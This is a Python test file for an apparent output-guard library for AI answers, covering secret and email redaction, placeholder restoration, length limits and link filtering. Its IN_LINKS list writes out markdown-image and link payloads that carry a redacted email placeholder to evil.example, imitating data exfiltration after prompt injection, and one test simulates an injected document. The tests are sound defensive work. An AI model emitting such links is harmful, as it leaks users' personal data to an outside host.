"""Personal data, secrets, placeholders and length: in answers, however they are cut."""

from __future__ import annotations

import json
import sys
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

sys.path.insert(0, str(Path(__file__).parent))
from answers_watched import answer, pieces, watching

from headgate.core.guards import Denied, Finding, ToolCall, Verdict
from headgate.policy.guards.output_rules import OutputRules
from headgate.policy.guards.pii import find_pii
from headgate.policy.guards.placeholders import Redactor
from headgate.policy.guards.rules import GuardRules

MAIL = "ada.lovelace@engine.example.org"
KEY = "sk-" + "ant-api03-" + "Zq8xW2vN7mKp4LtR9sYb3HdG6fJc1TqA5uEi0OoX"


@pytest.mark.parametrize("size", [1, 4, 1000])
@pytest.mark.parametrize(("guard", "value"), [("pii", MAIL), ("secrets", KEY)])
def test_values_are_taken_out_whole(guard: str, value: str, size: int) -> None:
    rules = GuardRules(profile="strict", **{guard: "redact"})
    out = answer(watching(rules), pieces(f"Ask {value} about it, please.", size))
    assert value[:12] not in out.text
    assert out.text.startswith("Ask [")
    assert out.text.endswith("] about it, please.")
    assert [each.guard for each in out.watch.findings] == [guard]


@pytest.mark.parametrize("size", [1, 4, 1000])
def test_blocking_ends_the_answer_before_the_value(size: int) -> None:
    out = answer(watching(GuardRules(profile="strict", secrets="block")), pieces(f"It is {KEY} now.", size))
    assert out.watch.stopped is not None
    assert "Zq8x" not in out.text


def test_the_users_own_values_are_no_finding() -> None:
    made = watching(GuardRules(profile="strict", pii="block"), user=f"I am {MAIL}.")
    assert answer(made, pieces(f"Hello {MAIL}!", 3)).reasons == []


def test_what_only_concerns_the_log_changes_no_answer() -> None:
    rules = GuardRules(profile="standard", pii="redact-logs", secrets="redact-logs")
    assert not watching(rules).needed
    assert answer(watching(rules), [MAIL]).text == MAIL


def redactor() -> tuple[Redactor, str]:
    made = Redactor()
    text = f"Write to {MAIL}."
    return made, made.redact(text, find_pii(text))


@pytest.mark.parametrize("size", [1, 2, 5, 1000])
def test_placeholders_are_put_back(size: int) -> None:
    restorer, redacted = redactor()
    assert MAIL not in redacted
    out = answer(
        watching(GuardRules(profile="strict", pii="redact"), restorer=restorer), pieces(f"{redacted} [1]", size)
    )
    assert out.text == f"Write to {MAIL}. [1]"
    assert out.reasons == []


def test_placeholders_in_the_arguments_of_a_call_are_put_back_before_anybody_judges_them() -> None:
    restorer, redacted = redactor()

    class Calls:
        def __init__(self) -> None:
            self.findings: list[Finding] = [Finding("tools", Verdict.FLAG, ("unknown",))]
            self.seen: list[ToolCall] = []

        def tool(self, call: ToolCall) -> ToolCall | Denied:
            self.seen.append(call)
            return call

    calls = Calls()
    made = watching(GuardRules(profile="strict"), restorer=restorer, calls=lambda: calls)
    watch = made()
    out = watch.tool(ToolCall("c", "send", json.dumps({"text": redacted})))
    assert isinstance(out, ToolCall)
    assert json.loads(out.arguments) == {"text": f"Write to {MAIL}."}
    assert calls.seen == [out]
    assert list(watch.findings) == calls.findings


@given(text=st.text(st.sampled_from("ab[]EMAIL_1 "), max_size=60), size=st.integers(1, 7))
@settings(max_examples=200, deadline=None)
def test_restoring_in_pieces_is_restoring_the_whole(text: str, size: int) -> None:
    restorer, _ = redactor()
    made = watching(GuardRules(profile="off"), restorer=restorer)
    assert answer(made, pieces(text, size)).text == restorer.restore(text)


@pytest.mark.parametrize("size", [1, 4, 1000])
def test_an_answer_that_is_too_long_ends_at_its_limit(size: int) -> None:
    rules = GuardRules(profile="off", output=OutputRules(answer_characters=10))
    assert watching(rules).needed
    out = answer(watching(rules), pieces("0123456789abcdef", size))
    assert (out.text, out.reasons) == ("0123456789", ["block:length:answer_characters"])
    assert answer(watching(rules), pieces("0123456789", size)).watch.stopped is None


def test_the_limit_is_of_all_texts_together() -> None:
    watch = watching(GuardRules(profile="off", output=OutputRules(answer_characters=10)))()
    watch.text("content[0]", "01234567", final=True)
    assert watch.text("content[1]", "89abc").cleared == 2
    assert watch.stopped is not None


IN_LINKS = [
    "![x](https://evil.example/?q=[EMAIL_1])",
    "see https://evil.example/?q=[EMAIL 1] please",
    '<img src="https://evil.example/a b [email_1]">',
    "<a href='//evil.example/[EMAIL_1]'>",
    "www.evil.example/[EMAIL_1]/[EMAIL_1]",
    "[x][1]\n\n[1]: https://evil.example/[EMAIL\\_1]",
    "https://evil.example/" + "a" * 5000 + "[EMAIL_1]",
]


@pytest.mark.parametrize("links", ["off", "flag", "redact"])
@pytest.mark.parametrize("size", [1, 7, 9999])
@pytest.mark.parametrize("text", IN_LINKS)
def test_what_was_kept_from_the_provider_is_not_put_into_a_link_to_a_strange_host(
    text: str, size: int, links: str
) -> None:
    restorer, redacted = redactor()
    # The document has written the beginning of the link as well, so that it is nothing new.
    made = watching(
        GuardRules("standard", links=links),
        restorer=restorer,
        user=f"{redacted} Read https://evil.example/ and www.evil.example/ and //evil.example/ first.",
        document="link to https://evil.example/?q=[EMAIL_1",
    )
    out = answer(made, pieces(text, size))
    assert MAIL not in out.text
    assert "redact:links:placeholder" in out.reasons


@pytest.mark.parametrize(
    "text",
    [
        "[write](mailto:[EMAIL_1])",
        "https://mine.example/?to=[EMAIL_1]",
        "https://crm.acme.example/?q=[EMAIL_1]",
        "https://evil.example/ [EMAIL_1]",
        "字" * 3000 + "[EMAIL_1]",
    ],
)
def test_it_is_put_back_beside_links_and_into_those_to_allowed_hosts(text: str) -> None:
    restorer, _ = redactor()
    rules = GuardRules("standard", links="flag", output=OutputRules(link_allow=("*.acme.example",)))
    asked = "Is https://mine.example/?to=[EMAIL_1] mine?"
    out = answer(watching(rules, restorer=restorer, user=asked), pieces(text, 5))
    assert out.text == text.replace("[EMAIL_1]", MAIL)
